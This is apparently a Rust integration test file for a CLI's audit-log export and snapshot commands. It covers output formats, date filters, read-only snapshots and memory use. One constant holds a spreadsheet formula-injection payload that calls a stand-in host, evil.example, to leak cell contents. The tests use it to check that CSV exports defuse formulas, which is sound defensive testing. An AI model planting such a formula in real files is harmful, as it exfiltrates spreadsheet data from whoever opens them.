//! `export` and `snapshot` as auditors run them: the binary against the in-process emulator,
//! and a child process that shows the export's memory does not grow with the rows.

use std::collections::{BTreeMap, BTreeSet};
use std::path::Path;

use embatch::audit::{
    AuditReader, AuditWriter, EXPORT_COLUMNS, ExportFilter, ExportFormat, NewRun, RowColumns,
    RowResult, RunStatus,
};
use embatch::emulator::{AccountSnapshot, EmulatorConfig, RunningEmulator};
use serde_json::Value;
use sha2::{Digest, Sha256};

use crate::support::{self, FAST};

/// The comment that would run as a formula in a spreadsheet if the CSV carried it as it is.
const FORMULA: &str = r#"=HYPERLINK("http://evil.example/?leak="&A1,"details")"#;

/// A scope the tests create, so that its object ref is on record.
const NEW_SCOPE_REF: &str =
    "urn:VMware:ResourcePool:11111111-2222-3333-4444-555555555555.resgroup-321";

async fn emulator() -> RunningEmulator {
    support::emulator(EmulatorConfig {
        accounts: 30,
        ..EmulatorConfig::default()
    })
    .await
}

/// Runs `embatch ARGS` against `emu` with the audit log `db`.
async fn embatch(emu: &RunningEmulator, db: &Path, args: &[&str]) -> std::process::Output {
    let mut cmd = support::cli(emu, db);
    cmd.args(args);
    if matches!(args[0], "apply" | "snapshot") {
        cmd.args(FAST);
    }
    support::output(cmd).await
}

/// Runs `embatch ARGS` and checks it exits 0; answers its stdout.
async fn ok(emu: &RunningEmulator, db: &Path, args: &[&str]) -> String {
    let out = embatch(emu, db, args).await;
    assert_eq!(
        out.status.code(),
        Some(0),
        "{args:?}: {}",
        support::text(&out)
    );
    String::from_utf8(out.stdout).unwrap()
}

fn generated(emu: &RunningEmulator) -> Vec<AccountSnapshot> {
    emu.state()
        .accounts
        .into_iter()
        .filter(|a| a.name.starts_with("TECH\\user"))
        .collect()
}

/// A plan of three rows on two accounts: a role with a formula as its comment, a new scope, and
/// the restore-all-VMs flag; written to `dir/name`.
fn write_plan(emu: &RunningEmulator, dir: &Path, name: &str, first: usize) -> std::path::PathBuf {
    let accounts = generated(emu);
    let a = accounts[first..]
        .iter()
        .find(|a| !a.roles.iter().any(|r| r.name == "VM Restore Operator"))
        .unwrap();
    let b = accounts[first..].iter().find(|b| b.id != a.id).unwrap();
    let flag = if b.allow_restore_all_vms { "off" } else { "on" };
    let mut csv = csv::Writer::from_writer(Vec::new());
    csv.write_record([
        "account",
        "action",
        "target",
        "object_name",
        "ticket",
        "comment",
    ])
    .unwrap();
    csv.write_record([
        &a.name,
        "assign-role",
        "VM Restore Operator",
        "",
        "CHG-42",
        FORMULA,
    ])
    .unwrap();
    csv.write_record([
        &b.id.to_string(),
        "add-scope",
        NEW_SCOPE_REF,
        "Audit-RP",
        "CHG-42",
        "",
    ])
    .unwrap();
    csv.write_record([&b.name, "restore-all-vms", flag, "", "CHG-43", "-flag"])
        .unwrap();
    let path = dir.join(name);
    std::fs::write(&path, csv.into_inner().unwrap()).unwrap();
    path
}

fn json_lines(text: &str) -> Vec<Value> {
    text.lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{e}: {l}")))
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn exports_every_format_with_run_metadata_and_defused_formulas() {
    let emu = emulator().await;
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("audit.db");
    let plan = write_plan(&emu, dir.path(), "plan.csv", 0);
    let sha = hex::encode(Sha256::digest(std::fs::read(&plan).unwrap()));
    ok(&emu, &db, &["apply", plan.to_str().unwrap()]).await;

    // JSON Lines: one object per row, every column, JSON columns nested.
    let jsonl = json_lines(&ok(&emu, &db, &["export", "--format", "jsonl"]).await);
    assert_eq!(jsonl.len(), 3);
    for (n, row) in jsonl.iter().enumerate() {
        let keys: BTreeSet<&str> = row
            .as_object()
            .unwrap()
            .keys()
            .map(|k| k.as_str())
            .collect();
        assert_eq!(keys, BTreeSet::from(EXPORT_COLUMNS));
        assert_eq!(row["run_id"], 1);
        assert_eq!(row["row_no"], n);
        assert_eq!(row["line"], n + 2);
        assert_eq!(row["run_kind"], "apply");
        assert_eq!(row["run_status"], "completed");
        assert_eq!(row["operator"], EmulatorConfig::default().admin_user);
        assert_eq!(row["server_url"], emu.base_url());
        assert_eq!(row["plan_file"], plan.to_str().unwrap());
        assert_eq!(row["plan_sha256"], sha);
        assert_eq!(row["tool_version"], env!("CARGO_PKG_VERSION"));
        assert_eq!(row["outcome"], "applied");
        assert!(row["prior_state"].is_object(), "{row}");
        assert!(row["result"].is_object(), "{row}");
        for at in ["run_started_at", "run_ended_at", "finished_at"] {
            let at = row[at].as_str().unwrap();
            assert!(
                at.ends_with('Z')
                    && time::OffsetDateTime::parse(
                        at,
                        &time::format_description::well_known::Rfc3339
                    )
                    .is_ok(),
                "{at}"
            );
        }
    }
    assert_eq!(
        jsonl
            .iter()
            .map(|r| r["ticket"].as_str().unwrap())
            .collect::<Vec<_>>(),
        ["CHG-42", "CHG-42", "CHG-43"]
    );
    assert_eq!(
        jsonl[0]["comment"], FORMULA,
        "JSON keeps the text as written"
    );
    assert_eq!(jsonl[1]["result"]["obj_ref"], NEW_SCOPE_REF);

    // The JSON array holds the same objects.
    let json: Value =
        serde_json::from_str(&ok(&emu, &db, &["export", "--format", "json"]).await).unwrap();
    assert_eq!(json, Value::Array(jsonl.clone()));

    // CSV: the same cells, with those that begin a formula defused by a leading quote.
    let text = ok(&emu, &db, &["export", "--format", "csv"]).await;
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    assert_eq!(
        reader.headers().unwrap().iter().collect::<Vec<_>>(),
        EXPORT_COLUMNS
    );
    let records: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
    assert_eq!(records.len(), 3);
    let column = |name: &str| EXPORT_COLUMNS.iter().position(|c| *c == name).unwrap();
    assert_eq!(records[0][column("comment")], format!("'{FORMULA}"));
    assert_eq!(&records[2][column("comment")], "'-flag");
    assert_eq!(&records[1][column("comment")], "");
    assert_eq!(records[0][column("plan_sha256")], sha);
    assert_eq!(&records[0][column("operator")], "admin");
    let prior: Value = serde_json::from_str(&records[0][column("prior_state")]).unwrap();
    assert_eq!(prior, jsonl[0]["prior_state"]);
    assert!(!text.lines().any(|l| l.starts_with('=')), "{text}");

    // -o writes a private file, and the same bytes as stdout.
    let file = dir.path().join("export.csv");
    let out = ok(
        &emu,
        &db,
        &["export", "--format", "csv", "-o", file.to_str().unwrap()],
    )
    .await;
    assert!(out.contains("exported 3 rows"), "{out}");
    assert_eq!(std::fs::read_to_string(&file).unwrap(), text);
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(&file).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode, 0o600);
    }
}

/// Sets the finished time of every row of `run` (and the run's own times) to `at`: the log is
/// append-only, so its facts are edited with their triggers dropped and made again.
fn backdate(db: &Path, run: i64, at: &str) {
    support::edit_facts(
        db,
        &format!(
            "UPDATE row_outcomes SET finished_at = '{at}' WHERE run_id = {run};
             UPDATE run_starts SET started_at = '{at}' WHERE id = {run};
             UPDATE run_ends SET ended_at = '{at}' WHERE run_id = {run};"
        ),
    );
    // The views, which the export reads, show the times moved.
    let conn = rusqlite::Connection::open(db).unwrap();
    let (rows, moved): (i64, i64) = conn
        .query_row(
            "SELECT count(*), count(CASE WHEN finished_at = ?2 THEN 1 END) FROM change_log
             WHERE run_id = ?1",
            rusqlite::params![run, at],
            |r| Ok((r.get(0)?, r.get(1)?)),
        )
        .unwrap();
    assert_eq!((rows, moved), (3, 3));
    let times: (String, String) = conn
        .query_row(
            "SELECT started_at, ended_at FROM run_summary WHERE run_id = ?1",
            [run],
            |r| Ok((r.get(0)?, r.get(1)?)),
        )
        .unwrap();
    assert_eq!(times, (at.to_string(), at.to_string()));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn filters_rows_by_run_and_by_their_finished_time() {
    let emu = emulator().await;
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("audit.db");
    let first = write_plan(&emu, dir.path(), "first.csv", 0);
    let second = write_plan(&emu, dir.path(), "second.csv", 10);
    ok(&emu, &db, &["apply", first.to_str().unwrap()]).await;
    ok(&emu, &db, &["apply", second.to_str().unwrap()]).await;
    backdate(&db, 1, "2026-01-10T23:30:00.000Z");
    backdate(&db, 2, "2026-01-12T08:00:00.000Z");

    let runs_of = |text: &str| -> Vec<i64> {
        json_lines(text)
            .iter()
            .map(|r| r["run_id"].as_i64().unwrap())
            .collect()
    };
    let export = |extra: &'static [&'static str]| {
        let mut args = vec!["export", "--format", "jsonl"];
        args.extend_from_slice(extra);
        let (emu, db) = (&emu, &db);
        async move { runs_of(&ok(emu, db, &args).await) }
    };
    assert_eq!(export(&[]).await, [1, 1, 1, 2, 2, 2]);
    assert_eq!(export(&["--run", "2"]).await, [2, 2, 2]);
    assert_eq!(export(&["--run", "last"]).await, [2, 2, 2]);
    // A date is a whole UTC day, at either end.
    assert_eq!(export(&["--until", "2026-01-10"]).await, [1, 1, 1]);
    assert_eq!(export(&["--since", "2026-01-11"]).await, [2, 2, 2]);
    assert_eq!(
        export(&["--since", "2026-01-11", "--until", "2026-01-11"]).await,
        [0; 0]
    );
    assert_eq!(
        export(&["--since", "2026-01-10", "--until", "2026-01-12"])
            .await
            .len(),
        6
    );
    // A timestamp with an offset is converted to UTC: 01:30+02:00 is 23:30Z the day before.
    assert_eq!(
        export(&[
            "--since",
            "2026-01-11T01:30:00+02:00",
            "--until",
            "2026-01-11"
        ])
        .await,
        [1, 1, 1]
    );
    assert_eq!(
        export(&["--until", "2026-01-10T23:29:59.999Z"]).await,
        [0; 0]
    );
    assert_eq!(
        export(&["--run", "1", "--since", "2026-01-11"]).await,
        [0; 0]
    );
    // An empty export is still a valid document.
    let empty = ok(
        &emu,
        &db,
        &["export", "--format", "json", "--since", "2030-01-01"],
    )
    .await;
    assert_eq!(
        serde_json::from_str::<Value>(&empty).unwrap(),
        Value::Array(vec![])
    );

    // Bad dates and windows are usage errors, and write nothing.
    let file = dir.path().join("never.json");
    for args in [
        &["--since", "2026-02-30"][..],
        &["--until", "yesterday"],
        &["--since", "2026-01-12", "--until", "2026-01-11"],
        &["--run", "nine"],
    ] {
        let mut all = vec!["export", "--format", "json", "-o", file.to_str().unwrap()];
        all.extend_from_slice(args);
        let out = embatch(&emu, &db, &all).await;
        assert_eq!(
            out.status.code(),
            Some(2),
            "{args:?}: {}",
            support::text(&out)
        );
        assert!(out.stdout.is_empty());
        assert!(!file.exists());
    }
    let out = embatch(&emu, &db, &["export", "--format", "csv", "--run", "9"]).await;
    assert_eq!(out.status.code(), Some(2), "{}", support::text(&out));
    assert!(String::from_utf8_lossy(&out.stderr).contains("no run 9"));
}

/// What the emulator says of an account, in the snapshot's terms: name, type, flag, role ids
/// and scope ids, sorted.
fn expected(a: &AccountSnapshot) -> Value {
    let roles: BTreeSet<String> = a.roles.iter().map(|r| r.id.to_string()).collect();
    let scopes: BTreeSet<String> = a.scopes.iter().map(|s| s.id.to_string()).collect();
    serde_json::json!({
        "account": a.name,
        "type": a.account_type,
        "restore_all_vms": a.allow_restore_all_vms,
        "roles": roles,
        "scopes": scopes,
    })
}

/// The same facts from a snapshot's JSON line.
fn seen(line: &Value) -> Value {
    let ids = |key: &str| -> BTreeSet<String> {
        line[key]
            .as_array()
            .unwrap()
            .iter()
            .map(|x| x["id"].as_str().unwrap().to_string())
            .collect()
    };
    serde_json::json!({
        "account": line["account"],
        "type": line["type"],
        "restore_all_vms": line["restore_all_vms"],
        "roles": ids("roles"),
        "scopes": ids("scopes"),
    })
}

/// Checks that run `run` of `db` is a completed snapshot run of `rows` rows (one per account
/// the plan names, or per account listed) for the accounts read, each `noop` with its account's
/// state as the prior state, and that the three reads of every account are recorded for it.
fn assert_snapshot_run(
    db: &Path,
    run: i64,
    plan_file: Option<&str>,
    rows: usize,
    accounts: &BTreeMap<String, Value>,
) {
    let conn = rusqlite::Connection::open(db).unwrap();
    let summary: (String, String, i64, i64, Option<String>) = conn
        .query_row(
            "SELECT kind, status, rows, noop, plan_file FROM run_summary WHERE run_id = ?1",
            [run],
            |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?, r.get(3)?, r.get(4)?)),
        )
        .unwrap();
    assert_eq!(
        summary,
        (
            "snapshot".into(),
            "completed".into(),
            rows as i64,
            rows as i64,
            plan_file.map(String::from)
        )
    );
    let mut stmt = conn
        .prepare(
            "SELECT account_id, action, prior_state, result FROM change_log
             WHERE run_id = ?1 ORDER BY row_no",
        )
        .unwrap();
    let recorded: Vec<(String, String, String, String)> = stmt
        .query_map([run], |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?, r.get(3)?)))
        .unwrap()
        .map(|r| r.unwrap())
        .collect();
    assert_eq!(recorded.len(), rows);
    for (account_id, action, prior, result) in recorded {
        assert_eq!(action, "snapshot");
        let line = &accounts[&account_id];
        let prior: Value = serde_json::from_str(&prior).unwrap();
        assert_eq!(prior["id"], line["account_id"]);
        assert_eq!(prior["name"], line["account"]);
        assert_eq!(prior["allow_restore_all_vms"], line["restore_all_vms"]);
        let ids = |v: &Value| -> BTreeSet<String> {
            v.as_array()
                .unwrap()
                .iter()
                .map(|x| x["id"].as_str().unwrap().to_string())
                .collect()
        };
        assert_eq!(ids(&prior["roles"]), ids(&line["roles"]));
        assert_eq!(ids(&prior["scopes"]), ids(&line["scopes"]));
        let result: Value = serde_json::from_str(&result).unwrap();
        assert_eq!(result["account_type"], line["type"]);
        assert_eq!(result["read_at"], line["read_at"]);
    }
    for account_id in accounts.keys() {
        // The account, its roles and its scopes: three reads, recorded for the account's row.
        let reads: i64 = conn
            .query_row(
                "SELECT count(*) FROM request_log q JOIN change_log c
                     ON c.run_id = q.run_id AND c.row_no = q.row_no
                 WHERE q.run_id = ?1 AND c.account_id = ?2 AND q.method = 'GET' AND q.status = 200",
                rusqlite::params![run, account_id],
                |r| r.get(0),
            )
            .unwrap();
        assert_eq!(reads, 3, "{account_id}");
    }
    let writes: i64 = conn
        .query_row(
            "SELECT count(*) FROM request_log WHERE run_id = ?1 AND row_no IS NOT NULL AND method <> 'GET'",
            [run],
            |r| r.get(0),
        )
        .unwrap();
    assert_eq!(writes, 0, "a snapshot only reads");
    let logon: i64 = conn
        .query_row(
            "SELECT count(*) FROM request_log WHERE run_id = ?1 AND row_no IS NULL AND method = 'POST'",
            [run],
            |r| r.get(0),
        )
        .unwrap();
    assert_eq!(logon, 1, "the logon is recorded under the run");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn snapshots_match_the_emulator_in_both_wires_and_are_recorded() {
    let emu = emulator().await;
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("audit.db");
    let plan = write_plan(&emu, dir.path(), "plan.csv", 0);
    ok(&emu, &db, &["apply", plan.to_str().unwrap()]).await;
    let writes = emu.journal().len();
    let state = emu.state();
    let by_id: BTreeMap<String, &AccountSnapshot> = state
        .accounts
        .iter()
        .map(|a| (a.id.to_string(), a))
        .collect();

    let mut run = 1;
    for wire in ["xml", "json"] {
        for (which, plan_arg) in [("--all", None), ("--plan", Some(plan.to_str().unwrap()))] {
            run += 1;
            let mut args = vec!["snapshot", "--format", "jsonl", "--wire", wire];
            match plan_arg {
                Some(p) => args.extend(["--plan", p]),
                None => args.push(which),
            }
            let lines = json_lines(&ok(&emu, &db, &args).await);
            let accounts: BTreeMap<String, Value> = lines
                .iter()
                .map(|l| (l["account_id"].as_str().unwrap().to_string(), l.clone()))
                .collect();
            assert_eq!(accounts.len(), lines.len(), "one line per account");
            if plan_arg.is_some() {
                assert_eq!(lines.len(), 2, "the plan names two accounts");
            } else {
                assert_eq!(lines.len(), state.accounts.len());
            }
            for (id, line) in &accounts {
                assert_eq!(seen(line), expected(by_id[id]), "{wire} {which}");
                for scope in line["scopes"].as_array().unwrap() {
                    // Only the scope this log saw created has a known ref.
                    if scope["name"] == "Audit-RP" {
                        assert_eq!(scope["obj_ref"], NEW_SCOPE_REF);
                    } else {
                        assert_eq!(scope["obj_ref"], Value::Null);
                    }
                }
            }
            // The plan names one of its accounts twice (by name and by id): a row each.
            let rows = if plan_arg.is_some() { 3 } else { lines.len() };
            assert_snapshot_run(&db, run, plan_arg, rows, &accounts);

            // The CSV of a second snapshot says the same, one line per account.
            run += 1;
            let file = dir.path().join(format!("snapshot-{wire}-{run}.csv"));
            args[2] = "csv";
            args.extend(["-o", file.to_str().unwrap()]);
            ok(&emu, &db, &args).await;
            let mut reader = csv::Reader::from_path(&file).unwrap();
            assert_eq!(
                reader.headers().unwrap().iter().collect::<Vec<_>>(),
                [
                    "account_id",
                    "account",
                    "type",
                    "restore_all_vms",
                    "roles",
                    "scopes",
                    "read_at"
                ]
            );
            let records: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
            assert_eq!(records.len(), lines.len());
            for record in &records {
                let line = &accounts[&record[0]];
                let a = by_id[&record[0]];
                assert_eq!(&record[1], a.name);
                assert_eq!(&record[2], a.account_type);
                assert_eq!(record[3], a.allow_restore_all_vms.to_string());
                let roles: Vec<&str> = line["roles"]
                    .as_array()
                    .unwrap()
                    .iter()
                    .map(|r| r["name"].as_str().unwrap())
                    .collect();
                assert_eq!(&record[4], roles.join("; "));
                let mut scopes: Vec<&str> = if record[5].is_empty() {
                    vec![]
                } else {
                    record[5].split("; ").collect()
                };
                scopes.sort();
                let mut want: Vec<String> = a
                    .scopes
                    .iter()
                    .map(|s| {
                        if s.name == "Audit-RP" {
                            format!("{} ({NEW_SCOPE_REF})", s.name)
                        } else {
                            s.name.clone()
                        }
                    })
                    .collect();
                want.sort();
                assert_eq!(scopes, want);
            }
            #[cfg(unix)]
            {
                use std::os::unix::fs::PermissionsExt;
                let mode = std::fs::metadata(&file).unwrap().permissions().mode() & 0o777;
                assert_eq!(mode, 0o600);
            }
        }
    }
    assert_eq!(emu.journal().len(), writes, "a snapshot changes nothing");
    let runs = ok(&emu, &db, &["runs"]).await;
    assert_eq!(runs.matches("snapshot").count(), 8, "{runs}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_snapshot_says_which_accounts_it_could_not_read() {
    let emu = emulator().await;
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("audit.db");
    let known = &generated(&emu)[0];
    let plan = dir.path().join("plan.csv");
    std::fs::write(
        &plan,
        format!(
            "account,action,target\nTECH\\nobody,assign-role,Portal User\n{},assign-role,Portal User\n",
            known.name
        ),
    )
    .unwrap();
    let out = embatch(
        &emu,
        &db,
        &[
            "snapshot",
            "--plan",
            plan.to_str().unwrap(),
            "--format",
            "csv",
        ],
    )
    .await;
    assert_eq!(out.status.code(), Some(1), "{}", support::text(&out));
    let stdout = String::from_utf8(out.stdout.clone()).unwrap();
    assert_eq!(
        stdout.lines().count(),
        2,
        "the header and the account read: {stdout}"
    );
    assert!(String::from_utf8_lossy(&out.stderr).contains("unknown account 'TECH\\nobody'"));
    let conn = rusqlite::Connection::open(&db).unwrap();
    let outcomes: Vec<(String, String)> = conn
        .prepare("SELECT account, outcome FROM change_log WHERE run_id = 1 ORDER BY row_no")
        .unwrap()
        .query_map([], |r| Ok((r.get(0)?, r.get(1)?)))
        .unwrap()
        .map(|r| r.unwrap())
        .collect();
    assert_eq!(
        outcomes,
        [
            ("TECH\\nobody".to_string(), "failed".to_string()),
            (known.name.clone(), "noop".to_string())
        ]
    );

    // A refused logon is a connection failure, and leaves no output file behind.
    let file = dir.path().join("snapshot.csv");
    let mut cmd = support::cli(&emu, &db);
    cmd.env("EMBATCH_PASSWORD", "wrong").args([
        "snapshot",
        "--all",
        "--format",
        "csv",
        "-o",
        file.to_str().unwrap(),
    ]);
    let out = support::output(cmd).await;
    assert_eq!(out.status.code(), Some(3), "{}", support::text(&out));
    assert!(!file.exists());
}

/// The environment variable that turns [`memory_probe`] on, with the number of rows.
const PROBE_ROWS: &str = "EMBATCH_EXPORT_MEMORY_PROBE_ROWS";

/// The scopes of every account of [`synthetic_log`]: 60, about 4.9 KB of JSON.
fn scopes_json() -> String {
    let scopes: Vec<Value> = (0..60u128)
        .map(|s| {
            serde_json::json!({
                "id": uuid::Uuid::from_u128((9 << 16) + s),
                "name": format!("Datacenter-01 folder {s:04}"),
            })
        })
        .collect();
    Value::Array(scopes).to_string()
}

/// Writes a log with one completed run of `rows` finished rows, each about 5.2 KB of text (most
/// of it the prior state of an account with 60 scopes), through the audit writer as a run would:
/// the log is append-only and hash-chained, so there is no honest shortcut. The rows go in
/// batches, each awaited, so the writer's channel never holds more than one. Answers the total
/// size of the rows' text as `change_log` shows it.
fn synthetic_log(path: &Path, rows: u64) -> u64 {
    const BATCH: u64 = 1_000;
    let runtime = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap();
    let scopes = scopes_json();
    let role = uuid::Uuid::from_u128(7);
    runtime.block_on(async {
        let writer = AuditWriter::spawn(path).unwrap();
        let audit = writer.handle();
        let run_id = audit
            .begin_run(NewRun {
                kind: "apply".into(),
                parent_run_id: None,
                operator: "TECH\\op".into(),
                server_url: "https://em.example.com:9398/api".into(),
                wire: "xml".into(),
                tls_verify: true,
                insecure: false,
                plan_file: Some("big.csv".into()),
                plan_sha256: Some("a".repeat(64)),
                tool_version: "0.1.0".into(),
                options: "{}".into(),
            })
            .await
            .unwrap();
        let mut start = 0;
        while start < rows {
            let end = (start + BATCH).min(rows);
            // Awaited: everything sent before it is committed first.
            audit
                .add_rows(
                    run_id,
                    (start..end)
                        .map(|i| RowColumns {
                            row_no: i,
                            line: i + 2,
                            account: format!("TECH\\user{i:08}"),
                            action: "assign-role".into(),
                            target: "VM Restore Operator".into(),
                            object_name: None,
                            ticket: Some("CHG-1".into()),
                            comment: Some("=1+1".into()),
                            annotations: None,
                        })
                        .collect(),
                )
                .await
                .unwrap();
            for i in start..end {
                // Each row's account is its own, so each prior state is stored whole.
                let id = uuid::Uuid::from_u128(u128::from(i) + 1);
                let prior = format!(
                    r#"{{"id":"{id}","name":"TECH\\user{i:08}","allow_restore_all_vms":false,"roles":[{{"id":"{role}","name":"Portal User"}}],"scopes":{scopes}}}"#
                );
                audit.row_account(run_id, i, &id.to_string());
                audit.row_finished(
                    run_id,
                    i,
                    RowResult {
                        outcome: "applied".into(),
                        error: None,
                        prior_state: Some(prior),
                        result: Some(r#"{"role_name":"VM Restore Operator"}"#.into()),
                    },
                );
            }
            start = end;
        }
        audit.end_run(run_id, RunStatus::Completed).await.unwrap();
        writer.close().await.unwrap();
    });
    let conn = rusqlite::Connection::open(path).unwrap();
    let (count, bytes): (i64, i64) = conn
        .query_row(
            "SELECT count(*), sum(length(account) + length(account_id) + length(action)
                    + length(target) + length(ticket) + length(comment) + length(outcome)
                    + length(prior_state) + length(result) + length(finished_at))
             FROM change_log WHERE outcome = 'applied' AND account_id IS NOT NULL",
            [],
            |r| Ok((r.get(0)?, r.get(1)?)),
        )
        .unwrap();
    assert_eq!(count, rows as i64, "every row finished, with all its text");
    bytes as u64
}

/// The process's peak resident memory, in KiB.
fn peak_kib() -> u64 {
    let status = std::fs::read_to_string("/proc/self/status").unwrap();
    status
        .lines()
        .find_map(|l| l.strip_prefix("VmHWM:"))
        .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
        .expect("/proc/self/status has VmHWM")
}

/// Run by [`export_memory_does_not_grow_with_rows`] alone in a child process, so that its peak
/// memory is its own: builds a large log, then exports it as a JSON array and as CSV (JSON Lines
/// shares the array's row writer) and prints how far the peak rose during the exports. Does
/// nothing when run any other way.
#[test]
#[ignore = "a probe that export_memory_does_not_grow_with_rows runs in a child process"]
fn memory_probe() {
    let Ok(rows) = std::env::var(PROBE_ROWS) else {
        return;
    };
    let rows: u64 = rows.parse().unwrap();
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("audit.db");
    let bytes = synthetic_log(&path, rows);
    let reader = AuditReader::open(&path).unwrap();
    // Start the peak afresh (Linux: "5" resets VmHWM); if that is refused, the building of the
    // log above is part of the baseline, which only makes the check weaker.
    let _ = std::fs::write("/proc/self/clear_refs", "5");
    let before = peak_kib();
    for format in [ExportFormat::Json, ExportFormat::Csv] {
        let out = std::io::BufWriter::new(std::fs::File::create("/dev/null").unwrap());
        let n = reader
            .export(&ExportFilter::default(), format, out)
            .unwrap();
        assert_eq!(n, rows);
    }
    let after = peak_kib();
    println!("memory-probe rows={rows} text_bytes={bytes} before_kib={before} after_kib={after}");
}

#[test]
#[cfg(target_os = "linux")]
fn export_memory_does_not_grow_with_rows() {
    // Every record goes through the audit writer's hash chain, which an unoptimized test build
    // makes slow: fewer rows than a real export's, each larger, so that their text still far
    // exceeds what a streamed export may take.
    let rows = 7_000;
    let out = std::process::Command::new(std::env::current_exe().unwrap())
        .args([
            "export::memory_probe",
            "--exact",
            "--ignored",
            "--nocapture",
            "--test-threads=1",
        ])
        .env(PROBE_ROWS, rows.to_string())
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{stdout}\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let line = stdout
        .lines()
        .find_map(|l| l.find("memory-probe").map(|at| &l[at..]))
        .unwrap_or_else(|| panic!("the probe ran: {stdout}"));
    let field = |name: &str| -> u64 {
        line.split_whitespace()
            .find_map(|kv| kv.strip_prefix(&format!("{name}=")))
            .unwrap()
            .parse()
            .unwrap()
    };
    let growth_kib = field("after_kib").saturating_sub(field("before_kib"));
    let data_kib = field("text_bytes") / 1024;
    // Holding the rows would take at least their text (over 32 MiB); streaming takes SQLite's
    // page cache and one row's buffers, well under a quarter of it.
    assert!(data_kib > 32 * 1024, "{line}");
    assert!(
        growth_kib < 8 * 1024,
        "the export's peak memory grew by {growth_kib} KiB: {line}"
    );
}
